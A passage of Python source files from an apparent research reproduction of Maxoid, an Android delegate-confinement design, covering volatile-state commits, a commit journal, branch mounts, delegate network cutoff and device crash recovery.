                path=destination,
                resource=f"file:{destination}",
                rw="w",
            )
        self._sys.makedirs(vpath.parent(destination))
        self._sys.write_file(destination, data)
        if self.obs.prov:
            # Link destination to the volatile source directly, so
            # explain() shows the commit edge even when the reading and
            # writing process taints have mixed other labels in.
            self.obs.provenance.commit_file(tmp_path, destination, self._package or "")
        if _FAULTS.enabled:
            _FAULTS.hit(
                "vol.commit.truncate",
                initiator=self._package,
                path=destination,
                device_id=self.obs.device_id,
            )
        if _SCHED.enabled:
            _SCHED.yield_point("vol.commit.truncate", path=destination)
        if entry is not None:
            self._journal.truncate(entry)
        return destination


class MaxoidSystemService:
    """The trusted service behind Vol/Priv clearing.

    Registered on Binder as ``maxoid``. An app may clear only *its own*
    volatile state and delegate-private state; the Launcher (running as
    root on the user's behalf) may clear anyone's (section 6.3).

    The clearing callables come from the Device so that one call covers
    every store Vol(A) spans: files, provider delta tables, clipboard.
    """

    def __init__(
        self,
        binder: BinderDriver,
        branches: BranchManager,
        clear_volatile=None,
        clear_delegate_priv=None,
    ) -> None:
        self._branches = branches
        self._clear_volatile = clear_volatile or branches.clear_volatile
        self._clear_delegate_priv = clear_delegate_priv or branches.clear_delegate_priv
        binder.register(MAXOID_SERVICE, self._handle, is_system=True)

    def _handle(self, transaction: Transaction):
        target = None
        if isinstance(transaction.payload, dict):
            target = transaction.payload.get("package")
        sender = transaction.sender_context
        if sender.app is not None:  # an app, not the Launcher/system
            if sender.is_delegate:
                raise IpcDenied("delegates may not manage volatile state")
            if target is not None and target != sender.app:
                raise IpcDenied(f"{sender} may only clear its own state")
            target = sender.app
        if target is None:
            raise IpcDenied("no target package")
        if transaction.code == "clear_volatile":
            return self._clear_volatile(target)
        if transaction.code == "clear_delegate_priv":
            return self._clear_delegate_priv(target)
        if transaction.code == "list_volatile":
            return self._branches.list_volatile_files(target)
        raise ValueError(f"unknown maxoid service call {transaction.code}")
