"""The delegate network cutoff (paper sections 2.4 and 6.2).

Maxoid cannot track data once it leaves the device, so delegates lose the
network wholesale: ``connect()`` returns ENETUNREACH (the check lives in
:meth:`repro.kernel.network.NetworkStack.connect`, keyed off the task
context — this module documents and tests the policy and guards the
trusted-service side channels).

Beyond raw sockets, a delegate could ask a *trusted service* to touch the
network for it; the paper closes those holes explicitly:

- Downloads refuses fetch requests from delegates (the URL itself could
  carry secrets) — enforced in
  :class:`repro.android.content.downloads.DownloadsProvider`;
- Bluetooth and SMS sends are refused — enforced in
  :mod:`repro.android.services`.

:func:`assert_not_delegate` is the shared guard those services call.
"""

from __future__ import annotations

from repro.errors import DelegateNetworkDenied
from repro.kernel.proc import TaskContext


def network_allowed(context: TaskContext) -> bool:
    """The rule the kernel's connect() applies: delegates get ENETUNREACH."""
    return not context.is_delegate


def assert_not_delegate(context: TaskContext, channel: str) -> None:
    """Guard for trusted services that can move data off-device.

    Raises :class:`DelegateNetworkDenied` when a delegate asks ``channel``
    (e.g. "bluetooth", "sms", "downloads-fetch") to transmit for it.
    """
    if context.is_delegate:
        raise DelegateNetworkDenied(
            f"{context} may not use {channel}: delegates are confined off-network"
        )
