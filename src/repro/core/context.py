"""Execution-context helpers.

The kernel's :class:`~repro.kernel.proc.TaskContext` already carries the
(app, initiator) pair; this module adds the small derived queries the rest
of Maxoid asks, and the app-facing query API ("an app can query whether it
runs as a delegate, and what initiator app it runs on behalf of", paper
section 6.1).
"""

from __future__ import annotations

from typing import Optional

from repro.kernel.proc import Process, TaskContext


def delegate_key(app: str, initiator: str) -> str:
    """Stable key naming a (delegate app, initiator) pair, used for branch
    directories: ``B@A`` is the paper's ``B^A``."""
    return f"{app}@{initiator}"


def same_confinement_domain(a: TaskContext, b: TaskContext) -> bool:
    """True when two contexts may freely exchange data under Maxoid:
    both run on behalf of the same effective initiator."""
    return a.effective_initiator == b.effective_initiator


class MaxoidContextApi:
    """The delegate-side query API (paper section 6.1, delegate API 2)."""

    def __init__(self, process: Process) -> None:
        self._process = process

    def is_delegate(self) -> bool:
        return self._process.context.is_delegate

    def initiator(self) -> Optional[str]:
        """The initiator package when running as a delegate, else None."""
        if not self._process.context.is_delegate:
            return None
        return self._process.context.initiator
