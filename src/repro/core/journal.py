"""WAL-style intent journal for volatile file commits (paper section 3.3).

An initiator's selective commit — copy ``Vol(A)``'s tmp file to its real
name — is a multi-step mutation (read, mkdir, write). A crash in the
middle must not leave a torn destination file, so the commit first writes
an *intent* here: a single journal entry carrying everything needed to
finish the commit (destination, payload, owner). ``Device.recover()``
replays complete entries (idempotently — same destination, same bytes) and
rolls back torn ones, then truncates the journal.

The journal lives on the system filesystem under a root-only directory,
out of reach of app processes, mirroring where Android keeps system
bookkeeping state.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from typing import List, Optional, Tuple

from repro.faults import FAULTS as _FAULTS
from repro.kernel import path as vpath
from repro.kernel.vfs import Filesystem, ROOT_CRED

JOURNAL_DIR = "/data/system/maxoid/journal"
INTENT_SUFFIX = ".intent"


@dataclass
class CommitIntent:
    """One decoded journal entry: a file commit that must complete."""

    entry_path: str
    package: str
    source: str
    destination: str
    data: bytes
    uid: int
    gid: int


class CommitJournal:
    """The volatile-file commit WAL, backed by the system filesystem."""

    def __init__(
        self, fs: Filesystem, directory: str = JOURNAL_DIR, *, obs: object = None
    ) -> None:
        self._fs = fs
        self._dir = directory
        # The owning device's ObsContext (when journal belongs to one):
        # fault hits stamp its device_id so a fleet postmortem can tell
        # whose journal tore.
        self._obs = obs
        if not fs.exists(directory, ROOT_CRED):
            # Parents keep the default (traversable) mode; only the journal
            # directory itself is root-only.
            parent = vpath.parent(directory)
            if not fs.exists(parent, ROOT_CRED):
                fs.mkdir(parent, ROOT_CRED, parents=True)
            fs.mkdir(directory, ROOT_CRED, mode=0o700)
        self._seq = self._highest_existing_seq()

    def _highest_existing_seq(self) -> int:
        highest = 0
        for name in self._fs.readdir(self._dir, ROOT_CRED):
            stem = name[: -len(INTENT_SUFFIX)] if name.endswith(INTENT_SUFFIX) else name
            if stem.isdigit():
                highest = max(highest, int(stem))
        return highest

    # ------------------------------------------------------------------

    def begin(
        self,
        *,
        package: str,
        source: str,
        destination: str,
        data: bytes,
        uid: int,
        gid: int,
    ) -> str:
        """Write one commit intent; returns the journal entry's path."""
        entry = {
            "package": package,
            "source": source,
            "destination": destination,
            "uid": uid,
            "gid": gid,
            "data": base64.b64encode(data).decode("ascii"),
        }
        self._seq += 1
        entry_path = vpath.join(self._dir, f"{self._seq:08d}{INTENT_SUFFIX}")
        text = json.dumps(entry).encode()
        if _FAULTS.enabled:
            try:
                if self._obs is not None:
                    _FAULTS.hit(
                        "vol.commit.journal",
                        path=entry_path,
                        device_id=self._obs.device_id,
                    )
                else:
                    _FAULTS.hit("vol.commit.journal", path=entry_path)
            except BaseException:
                # The crash interrupted the entry write itself: leave a
                # torn half-entry behind, which recovery must roll back.
                self._fs.write_file(
                    entry_path, text[: len(text) // 2], ROOT_CRED, mode=0o600
                )
                raise
        self._fs.write_file(entry_path, text, ROOT_CRED, mode=0o600)
        return entry_path

    def truncate(self, entry_path: str) -> None:
        """Drop a completed intent (the commit's final step)."""
        if self._fs.exists(entry_path, ROOT_CRED):
            self._fs.unlink(entry_path, ROOT_CRED)

    # ------------------------------------------------------------------

    def pending(self) -> List[Tuple[str, Optional[CommitIntent]]]:
        """All journal entries, oldest first.

        Returns ``(entry_path, intent)`` pairs; ``intent`` is ``None`` for
        a torn (unparseable) entry, which recovery rolls back.
        """
        found: List[Tuple[str, Optional[CommitIntent]]] = []
        for name in sorted(self._fs.readdir(self._dir, ROOT_CRED)):
            if not name.endswith(INTENT_SUFFIX):
                continue
            entry_path = vpath.join(self._dir, name)
            raw = self._fs.read_file(entry_path, ROOT_CRED)
            try:
                entry = json.loads(raw.decode("utf-8"))
                intent: Optional[CommitIntent] = CommitIntent(
                    entry_path=entry_path,
                    package=entry["package"],
                    source=entry["source"],
                    destination=entry["destination"],
                    data=base64.b64decode(entry["data"]),
                    uid=int(entry["uid"]),
                    gid=int(entry["gid"]),
                )
            except (ValueError, KeyError, UnicodeDecodeError):
                intent = None
            found.append((entry_path, intent))
        return found

    def __len__(self) -> int:
        return len(self.pending())
