"""Persistent private state for delegates (paper section 3.2, Figure 2).

A Maxoid-aware delegate can keep state that survives across invocations on
behalf of the *same* initiator even when its normal private state gets
re-forked: ``pPriv(B^A)``. It appears at ``/data/data/ppriv/<pkg>`` in the
delegate's namespace; different initiators are backed by different
branches, so ``pPriv(B^A)`` and ``pPriv(B^C)`` are isolated without the
app doing anything.

This module is the delegate-facing convenience API: the mounts themselves
are set up by the branch manager.
"""

from __future__ import annotations

from typing import Optional

from repro.android.storage import PPRIV_ROOT, PrivateDatabase, SharedPreferences, StorageLayout
from repro.kernel import path as vpath
from repro.kernel.proc import Process
from repro.kernel.syscall import Syscalls


class PersistentPrivateState:
    """Accessor for a delegate's ``pPriv`` directory.

    Usable only while running as a delegate — when an app runs normally,
    the ppriv mount is absent and operations raise ``FileNotFound``
    (matching the paper: an app stores to nPriv when run normally, to
    pPriv when run as a delegate, section 7.1 / EBookDroid).
    """

    def __init__(self, process: Process) -> None:
        self._process = process
        self._sys = Syscalls(process)
        self._package = process.context.app or ""

    @property
    def available(self) -> bool:
        """True when a pPriv view is mounted (i.e. running as a delegate)."""
        point, _ = self._process.namespace.mount_for(self.root)
        return point == self.root

    @property
    def root(self) -> str:
        return vpath.join(PPRIV_ROOT, self._package)

    def database(self, name: str) -> PrivateDatabase:
        layout = StorageLayout(self._package)
        return PrivateDatabase(self._sys, layout.ppriv_database_path(name))

    def preferences(self) -> SharedPreferences:
        return SharedPreferences(self._sys, vpath.join(self.root, "prefs.json"))
