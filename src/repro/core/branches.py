"""The Aufs branch manager (paper section 4.2, Figure 3).

Lives in Zygote in the real system: when a new app process is forked, the
branch manager selects the relevant branches and mounts Aufs in the
process's private mount namespace. Here it owns the backing filesystems
for every branch kind and materializes the symbolic plans computed by
:mod:`repro.core.views`.

It also implements the state-lifecycle rules:

- ``nPriv(B^A)`` is discarded and re-forked when ``Priv(B)`` diverged since
  the fork (section 3.2) — divergence is detected with a version stamp of
  ``Priv(B)``'s tree;
- ``Vol(A)`` and ``Priv(x^A)`` can be cleared (the Launcher drop targets,
  section 6.3);
- volatile file state can be enumerated and committed by the initiator
  (section 3.3).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.android.storage import DATA_ROOT, EXTDIR
from repro.core.context import delegate_key
from repro.core.cow import initiator_key
from repro.core.views import BranchSpec, MountPlan
from repro.kernel import path as vpath
from repro.kernel.aufs import AufsMount, Branch, purge_copyup_temps
from repro.kernel.mounts import MountNamespace
from repro.kernel.vfs import Filesystem, ROOT_CRED


class BranchManager:
    """Owns branch backing stores and builds app mount namespaces."""

    def __init__(self, system_fs: Filesystem, obs: Optional[object] = None) -> None:
        self.system_fs = system_fs
        # Mounts built by this manager report into the owning device's
        # observability context (None keeps the process-global default).
        self.obs = obs
        self.pub_fs = Filesystem(label="ext-public")
        # External storage is world-accessible in Android (FAT semantics);
        # the fuse layer makes everything rwx for every app.
        self.pub_fs.root.mode = 0o777
        self.extpriv_fs = Filesystem(label="ext-private")
        self.vol_fs = Filesystem(label="volatile")
        self.deleg_fs = Filesystem(label="delegate-private")
        self.ppriv_fs = Filesystem(label="persistent-private")
        # (delegate package, initiator package) -> Priv(B) version at fork.
        self._fork_stamps: Dict[Tuple[str, str], int] = {}
        # Mounts built this session, for statistics.
        self.mounts_built = 0

    # ------------------------------------------------------------------
    # Backing-store helpers
    # ------------------------------------------------------------------

    def _fs_for_kind(self, kind: str) -> Filesystem:
        return {
            "pub": self.pub_fs,
            "extpriv": self.extpriv_fs,
            "vol_ext": self.vol_fs,
            "vol_int": self.vol_fs,
            "deleg_int": self.deleg_fs,
            "deleg_extpriv": self.deleg_fs,
            "ppriv": self.ppriv_fs,
            "system_priv": self.system_fs,
        }[kind]

    @staticmethod
    def _dirkey(segment: str) -> str:
        """Sanitize a package or ``B@A`` pair for use as a directory name.

        Uses the same sanitization as the COW proxy's delta-table names so
        a record's ``_state`` tag and its volatile file branch agree."""
        if "@" in segment:
            app, _, initiator = segment.partition("@")
            return f"{initiator_key(app)}@{initiator_key(initiator)}"
        return initiator_key(segment)

    def _branch(self, spec: BranchSpec) -> Branch:
        fs = self._fs_for_kind(spec.kind)
        if spec.kind in ("vol_ext", "vol_int"):
            # The subpath is "<initiator>[/relative/dir]": the branch root is
            # the initiator's ext/int volatile tree plus the relative part,
            # so a write to EXTDIR/data/A lands at /<A>/ext/data/A.
            area = "ext" if spec.kind == "vol_ext" else "int"
            initiator, _, rest = spec.subpath.strip("/").partition("/")
            root = vpath.join("/", self._dirkey(initiator), area, rest)
        elif spec.kind == "system_priv":
            root = vpath.join(DATA_ROOT, spec.subpath)
        elif spec.kind == "pub":
            root = vpath.normalize(spec.subpath)
        elif spec.kind == "deleg_int":
            # The subpath is the "B@A" pair; its nPriv overlay lives in the
            # pair's "int" area (sibling of its external-private area).
            root = vpath.join("/", self._dirkey(spec.subpath), "int")
        elif spec.kind == "deleg_extpriv":
            pair, _, rest = spec.subpath.strip("/").partition("/")
            root = vpath.join("/", self._dirkey(pair), "extpriv", rest)
        elif spec.kind == "extpriv":
            # "<package>/<private-dir...>": one branch per app private dir.
            package, _, rest = spec.subpath.strip("/").partition("/")
            root = vpath.join("/", self._dirkey(package), rest)
        else:  # ppriv: one directory per (delegate, initiator) pair
            root = vpath.join("/", self._dirkey(spec.subpath))
        if not fs.exists(root, ROOT_CRED):
            fs.mkdir(root, ROOT_CRED, parents=True)
        return Branch(fs=fs, root=root, writable=spec.writable, label=spec.label)

    # ------------------------------------------------------------------
    # Namespace assembly
    # ------------------------------------------------------------------

    def materialize(self, base: MountNamespace, plans: List[MountPlan]) -> MountNamespace:
        """Clone ``base`` (the simulated ``unshare()``) and apply ``plans``."""
        namespace = base.unshare()
        for plan in plans:
            mount = AufsMount(
                [self._branch(spec) for spec in plan.branches],
                always_allow_read=plan.always_allow_read,
                label=plan.mountpoint,
                obs=self.obs,
            )
            namespace.mount(plan.mountpoint, mount)
            self.mounts_built += 1
        return namespace

    # ------------------------------------------------------------------
    # nPriv lifecycle (paper 3.2)
    # ------------------------------------------------------------------

    def priv_version(self, package: str) -> int:
        """A version stamp for ``Priv(B)``: the max mtime in its tree."""
        root = vpath.join(DATA_ROOT, package)
        if not self.system_fs.exists(root, ROOT_CRED):
            return 0
        newest = self.system_fs.stat(root, ROOT_CRED).mtime
        stack = [root]
        while stack:
            current = stack.pop()
            for name in self.system_fs.readdir(current, ROOT_CRED):
                child = vpath.join(current, name)
                stat = self.system_fs.stat(child, ROOT_CRED)
                newest = max(newest, stat.mtime)
                if stat.is_dir:
                    stack.append(child)
        return newest

    def prepare_delegate_priv(self, package: str, initiator: str) -> bool:
        """Apply the re-fork rule before ``B^A`` starts.

        If ``Priv(B)`` changed since ``nPriv(B^A)`` was forked, the old
        writable branch is discarded (option 1 of section 3.2). Returns
        True when a discard happened.
        """
        key = (package, initiator)
        current = self.priv_version(package)
        stamp = self._fork_stamps.get(key)
        discarded = False
        pair_root = vpath.join("/", self._dirkey(delegate_key(package, initiator)))
        branch_root = vpath.join(pair_root, "int")
        if stamp is not None and stamp != current:
            # nPriv(B^A) covers both the internal overlay and the
            # delegate's external-private overlay; pPriv survives.
            self._clear_tree(self.deleg_fs, branch_root)
            self._clear_tree(self.deleg_fs, vpath.join(pair_root, "extpriv"))
            discarded = True
        self._fork_stamps[key] = current
        if not self.deleg_fs.exists(branch_root, ROOT_CRED):
            self.deleg_fs.mkdir(branch_root, ROOT_CRED, parents=True)
        return discarded

    # ------------------------------------------------------------------
    # Volatile state (paper 3.3, 6.3)
    # ------------------------------------------------------------------

    def volatile_ext_root(self, initiator: str) -> str:
        """Root of Vol(initiator)'s external-storage area in vol_fs."""
        return vpath.join("/", self._dirkey(initiator), "ext")

    def volatile_int_root(self, initiator: str) -> str:
        """Root of Vol(initiator)'s internal-storage area in vol_fs."""
        return vpath.join("/", self._dirkey(initiator), "int")

    def list_volatile_files(self, initiator: str) -> List[str]:
        """All file paths currently in ``Vol(initiator)`` (ext + int),
        returned relative to their volatile root."""
        found: List[str] = []
        for root, prefix in (
            (self.volatile_ext_root(initiator), "ext"),
            (self.volatile_int_root(initiator), "int"),
        ):
            if not self.vol_fs.exists(root, ROOT_CRED):
                continue
            stack = [root]
            while stack:
                current = stack.pop()
                for name in self.vol_fs.readdir(current, ROOT_CRED):
                    child = vpath.join(current, name)
                    if self.vol_fs.stat(child, ROOT_CRED).is_dir:
                        stack.append(child)
                    else:
                        found.append(
                            vpath.join("/", prefix, vpath.relative_to(child, root))
                        )
        return sorted(found)

    def clear_volatile(self, initiator: str) -> int:
        """Discard ``Vol(initiator)`` entirely; returns files removed.
        (The Launcher's Clear-Vol drop target and the initiator API.)"""
        removed = len(self.list_volatile_files(initiator))
        for root in (self.volatile_ext_root(initiator), self.volatile_int_root(initiator)):
            self._clear_tree(self.vol_fs, root)
        return removed

    def clear_delegate_priv(self, initiator: str) -> int:
        """Discard ``Priv(x^initiator)`` for every app x — both the nPriv
        overlay branches and the pPriv branches (Clear-Priv drop target)."""
        suffix = "@" + initiator_key(initiator)
        cleared = 0
        for fs in (self.deleg_fs, self.ppriv_fs):
            for name in list(fs.readdir("/", ROOT_CRED)):
                if name.endswith(suffix):
                    self._clear_tree(fs, vpath.join("/", name))
                    fs.rmdir(vpath.join("/", name), ROOT_CRED)
                    cleared += 1
        keys = [k for k in self._fork_stamps if k[1] == initiator]
        for key in keys:
            del self._fork_stamps[key]
        return cleared

    def purge_copyup_temps(self) -> List[str]:
        """Remove crash-orphaned copy-up staging files from every branch
        backing store (``Device.recover()`` step). Returns removed paths."""
        removed: List[str] = []
        for fs in (
            self.pub_fs,
            self.extpriv_fs,
            self.vol_fs,
            self.deleg_fs,
            self.ppriv_fs,
            self.system_fs,
        ):
            removed.extend(purge_copyup_temps(fs))
        return removed

    @staticmethod
    def _clear_tree(fs: Filesystem, root: str) -> None:
        if not fs.exists(root, ROOT_CRED):
            return
        for name in list(fs.readdir(root, ROOT_CRED)):
            child = vpath.join(root, name)
            if fs.stat(child, ROOT_CRED).is_dir:
                BranchManager._clear_tree(fs, child)
                fs.rmdir(child, ROOT_CRED)
            else:
                fs.unlink(child, ROOT_CRED)
