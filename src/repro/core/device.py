"""The device facade: boot a simulated Android system, with or without
Maxoid (paper Figure 3).

``Device(maxoid_enabled=True)`` boots the full Maxoid stack: branch
manager in Zygote, IPC guard in the Binder driver, COW-proxied system
providers, the modified services, and the Launcher drop targets.
``Device(maxoid_enabled=False)`` boots the stock-Android baseline the
paper's benchmarks compare against: same framework, none of the Maxoid
hooks, a single shared view of everything.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Tuple

from repro.android.am import ActivityManagerService, Invocation
from repro.android.app_api import AppApi
from repro.android.content.contacts import ContactsProvider
from repro.android.content.downloads import DownloadsProvider
from repro.android.content.media import MediaProvider
from repro.android.content.provider import ContentResolver
from repro.android.content.system_io import SystemStorageIO, VOLATILE_MOUNT
from repro.android.content.user_dictionary import UserDictionaryProvider
from repro.android.intents import Intent
from repro.android.launcher import Launcher
from repro.android.packages import AndroidManifest, InstalledPackage, PackageManager
from repro.android.services import (
    BluetoothService,
    ClipboardService,
    DownloadManager,
    MediaScanner,
    TelephonyService,
)
from repro.android.storage import EXTDIR
from repro.android.zygote import Zygote
from repro.core.audit import AuditLog
from repro.core.branches import BranchManager
from repro.core.ipc_guard import IpcGuard
from repro.core.journal import CommitJournal
from repro.core.manifest import MaxoidManifest
from repro.core.views import plan_delegate_mounts, plan_initiator_mounts
from repro.core.volatile import MaxoidSystemService
from repro.errors import ReproError
from repro.faults import FAULTS
from repro.kernel import path as vpath
from repro.kernel.binder import BinderDriver
from repro.kernel.mounts import MountNamespace
from repro.kernel.network import NetworkStack
from repro.kernel.proc import Process, ProcessTable, TaskContext
from repro.kernel.syscall import Syscalls
from repro.kernel.sysfs import Sysfs
from repro.kernel.vfs import Credentials, Filesystem, ROOT_CRED
from repro.obs import OBS, ObsContext
from repro.obs.monitor import SecurityMonitor


@dataclass
class RecoveryReport:
    """What ``Device.recover()`` found and repaired after a crash."""

    file_commits_replayed: int = 0
    file_commits_rolled_back: int = 0
    cow_rows_replayed: int = 0
    cow_rows_rolled_back: int = 0
    copyup_temps_removed: List[str] = field(default_factory=list)
    orphans_reaped: List[int] = field(default_factory=list)
    namespaces_rebuilt: int = 0
    sweep_violations: List[str] = field(default_factory=list)
    sweep_spans_checked: int = 0

    @property
    def clean(self) -> bool:
        """True when validation found no security-goal violation."""
        return not self.sweep_violations


class Device:
    """A booted simulated Android device."""

    def __init__(
        self,
        maxoid_enabled: bool = True,
        *,
        device_id: Optional[str] = None,
        obs: Optional[ObsContext] = None,
    ) -> None:
        self.maxoid_enabled = maxoid_enabled
        # -- observability ----------------------------------------------------
        # Every instrumented layer below resolves its gating flags through
        # this handle. The default is the process-global OBS context, so a
        # bare Device() behaves exactly as before; naming the device (or
        # passing a context) gives it an isolated ObsContext — the fleet
        # sharding model.
        if obs is not None:
            self.obs = obs
        elif device_id is not None:
            self.obs = ObsContext(device_id=device_id)
        else:
            self.obs = OBS
        self.device_id = device_id if device_id is not None else self.obs.device_id
        # -- kernel ---------------------------------------------------------
        self.system_fs = Filesystem(label="system")
        self.processes = ProcessTable()
        self.sysfs = Sysfs(self.processes)
        self.binder = BinderDriver(obs=self.obs)
        self.binder.attach_process_table(self.processes)
        self.network = NetworkStack()
        self.branches = BranchManager(self.system_fs, obs=self.obs)
        self.audit_log = AuditLog(device_id=self.device_id)
        self.binder.attach_audit_log(self.audit_log)
        self.commit_journal = CommitJournal(self.system_fs, obs=self.obs)
        # -- namespaces -------------------------------------------------------
        # Every app sees the system fs at / and public external storage at
        # EXTDIR; the system process additionally sees the volatile forest.
        self.base_namespace = MountNamespace(self.system_fs, obs=self.obs)
        self.base_namespace.mount(EXTDIR, self.branches.pub_fs)
        self.system_namespace = self.base_namespace.unshare()
        self.system_namespace.mount(VOLATILE_MOUNT, self.branches.vol_fs)
        self.system_process = Process(
            cred=Credentials(uid=0),
            namespace=self.system_namespace,
            context=TaskContext(app=None, initiator=None),
            name="system_server",
            obs=self.obs,
        )
        self.processes.register(self.system_process)
        # -- framework ---------------------------------------------------------
        self.packages = PackageManager(self.system_fs)
        self.resolver = ContentResolver(self.binder)
        system_io = SystemStorageIO(Syscalls(self.system_process))
        self.user_dictionary = UserDictionaryProvider()
        self.downloads = DownloadsProvider(self.network, system_io, self.system_process)
        self.media = MediaProvider(system_io)
        self.contacts = ContactsProvider()
        self.resolver.register(self.user_dictionary)
        self.resolver.register(self.downloads)
        self.resolver.register(self.media)
        self.resolver.register(self.contacts)
        # The system providers' COW proxies were built before the device
        # existed; attach them (and their databases) to this context.
        for provider in (self.user_dictionary, self.downloads, self.media, self.contacts):
            provider.proxy.bind_obs(self.obs)
        self.clipboard = ClipboardService(maxoid_enabled, obs=self.obs)
        self.bluetooth = BluetoothService(maxoid_enabled, obs=self.obs)
        self.telephony = TelephonyService(maxoid_enabled, obs=self.obs)
        self.download_manager = DownloadManager(self.resolver, obs=self.obs)
        self.media_scanner = MediaScanner(self.resolver)
        # -- Maxoid hooks ---------------------------------------------------------
        self.maxoid_manifests: Dict[str, MaxoidManifest] = {}
        self.ipc_guard: Optional[IpcGuard] = None
        if maxoid_enabled:
            self.ipc_guard = IpcGuard(self.binder)
            self.maxoid_service = MaxoidSystemService(
                self.binder,
                self.branches,
                clear_volatile=self.clear_volatile,
                clear_delegate_priv=self.clear_delegate_priv,
            )
        self.zygote = Zygote(
            self.processes,
            self.sysfs,
            self.packages,
            self._build_namespace,
            maxoid_enabled=maxoid_enabled,
            obs=self.obs,
        )
        self.am = ActivityManagerService(
            self.packages,
            self.zygote,
            self.processes,
            self.binder,
            ipc_guard=self.ipc_guard,
            maxoid_manifests=self.maxoid_manifests,
            obs=self.obs,
        )
        self.launcher = Launcher(self.am, self)
        self._apps: Dict[str, Any] = {}

    # ------------------------------------------------------------------
    # Zygote's namespace builder
    # ------------------------------------------------------------------

    def _build_namespace(self, package: str, initiator: Optional[str]) -> MountNamespace:
        if not self.maxoid_enabled:
            return self.base_namespace.unshare()
        manifest = self.maxoid_manifests.get(package)
        if initiator is None or initiator == package:
            plans = plan_initiator_mounts(package, manifest)
        else:
            self.branches.prepare_delegate_priv(package, initiator)
            plans = plan_delegate_mounts(
                package, initiator, manifest, self.maxoid_manifests.get(initiator)
            )
        return self.branches.materialize(self.base_namespace, plans)

    # ------------------------------------------------------------------
    # App installation and launch
    # ------------------------------------------------------------------

    def install(self, manifest: AndroidManifest, app: Optional[Any] = None) -> InstalledPackage:
        """Install a package; ``app`` is the app's code (an object with a
        ``main(api, intent)`` method) if it has any."""
        installed = self.packages.install(manifest)
        if manifest.maxoid is not None:
            self.maxoid_manifests[manifest.package] = manifest.maxoid
        if app is not None:
            self._apps[manifest.package] = app
            self.am.register_handler(manifest.package, self._make_handler(manifest.package))
            if hasattr(app, "on_install"):
                app.on_install(self, installed)
        return installed

    def _make_handler(self, package: str):
        def handler(process: Process, intent: Intent):
            api = AppApi(self, process)
            return self._apps[package].main(api, intent)

        return handler

    def register_app_provider(self, provider: Any) -> None:
        """Register an app-defined content provider.

        Its Binder endpoint runs in the owning app's (initiator) context,
        so the IPC guard lets the owner's delegates reach it — the Email
        attachment flow (paper section 2.2.III)."""
        self.resolver.register(provider)
        proxy = getattr(provider, "proxy", None)
        if proxy is not None and hasattr(proxy, "bind_obs"):
            proxy.bind_obs(self.obs)
        if self.ipc_guard is not None and provider.owner is not None:
            self.ipc_guard.register_instance(
                f"provider:{provider.authority}",
                TaskContext(app=provider.owner, initiator=None),
            )

    def app(self, package: str) -> Any:
        return self._apps[package]

    def launch(self, package: str, intent: Optional[Intent] = None) -> Invocation:
        """The user taps an app icon."""
        return self.launcher.start(package, intent)

    def launch_as_delegate(
        self, package: str, initiator: str, intent: Optional[Intent] = None
    ) -> Invocation:
        return self.launcher.start_as_delegate(package, initiator, intent)

    def api_for(self, process: Process) -> AppApi:
        """An API handle for an existing process (used by tests/benches)."""
        return AppApi(self, process)

    def spawn(self, package: str, initiator: Optional[str] = None) -> AppApi:
        """Spawn a process directly (no intent), returning its API —
        convenient for tests and microbenchmarks."""
        process = self.zygote.fork_app(package, initiator)
        return AppApi(self, process)

    # ------------------------------------------------------------------
    # Maxoid state management (Launcher / initiator entry points)
    # ------------------------------------------------------------------

    def clear_volatile(self, package: str) -> int:
        """Discard Vol(package): volatile files, provider volatile records,
        and the delegate clipboard."""
        removed = self.branches.clear_volatile(package)
        for provider in (self.user_dictionary, self.media, self.downloads, self.contacts):
            removed += provider.proxy.discard_all_volatile(package)
        self.clipboard.clear_domain(package)
        return removed

    def clear_delegate_priv(self, package: str) -> int:
        """Discard Priv(x^package) for every app x."""
        count = self.branches.clear_delegate_priv(package)
        for process in self.processes.instances_of_initiator(package):
            process.kill()
        return count

    # ------------------------------------------------------------------
    # Flight recorder
    # ------------------------------------------------------------------

    def arm_flight_recorder(
        self,
        capacity: int = 4096,
        halt_at: Optional[int] = None,
        autoseal: bool = True,
    ):
        """Arm this device's flight recorder with its audit log tapped.

        Convenience over ``device.obs.recorder.arm(...)`` that wires in
        ``self.audit_log``, so S1-S4 violations and delegate timeouts
        recorded there trigger black-box dumps automatically."""
        return self.obs.recorder.arm(
            capacity=capacity,
            audit_log=self.audit_log,
            halt_at=halt_at,
            autoseal=autoseal,
        )

    # ------------------------------------------------------------------
    # Crash recovery
    # ------------------------------------------------------------------

    def recover(
        self, *, validate: bool = True, disarm_faults: bool = True
    ) -> RecoveryReport:
        """Bring the device back to a consistent state after a crash.

        The simulated analogue of Android's boot-time fsck + journal
        replay: roll forward or back every interrupted multi-step
        mutation, reap processes stranded mid-bookkeeping, rebuild app
        mount namespaces from their installed state, and (with
        ``validate=True``) re-check the S1/S2 confinement goals over a
        freshly traced probe workload. Every action lands in
        ``self.audit_log`` for the post-mortem.
        """
        report = RecoveryReport()
        if disarm_faults:
            FAULTS.disarm()
        self.audit_log.ingest_faults(FAULTS)
        # 1. Volatile file commits: replay complete intents, roll back torn.
        for entry_path, intent in self.commit_journal.pending():
            if intent is None:
                self.commit_journal.truncate(entry_path)
                report.file_commits_rolled_back += 1
                self.audit_log.record(
                    "recovery", "rolled back torn commit intent", entry=entry_path
                )
                continue
            self._replay_file_commit(intent)
            self.commit_journal.truncate(entry_path)
            report.file_commits_replayed += 1
            self.audit_log.record(
                "recovery",
                "replayed file commit",
                package=intent.package,
                destination=intent.destination,
            )
        # 2. COW proxy commit journals.
        for provider in (self.user_dictionary, self.media, self.downloads, self.contacts):
            replayed, rolled_back = provider.proxy.recover()
            report.cow_rows_replayed += replayed
            report.cow_rows_rolled_back += rolled_back
            if replayed or rolled_back:
                self.audit_log.record(
                    "recovery",
                    "recovered COW commit journal",
                    provider=provider.authority,
                    replayed=replayed,
                    rolled_back=rolled_back,
                )
        # 3. Orphaned copy-up staging files (invisible but occupying space).
        report.copyup_temps_removed = self.branches.purge_copyup_temps()
        for path in report.copyup_temps_removed:
            self.audit_log.record("recovery", "purged copy-up temp", path=path)
        # 4. Processes stranded between fork and AM bookkeeping.
        report.orphans_reaped = self.am.reap_orphans()
        for pid in report.orphans_reaped:
            self.audit_log.record("recovery", "reaped orphaned delegate", pid=pid)
        # 5. Rebuild every live app process's mount namespace from its
        # installed state (a crashed mount-table mutation leaves no trace).
        for process in self.processes.alive():
            if process.context.app is None:
                continue
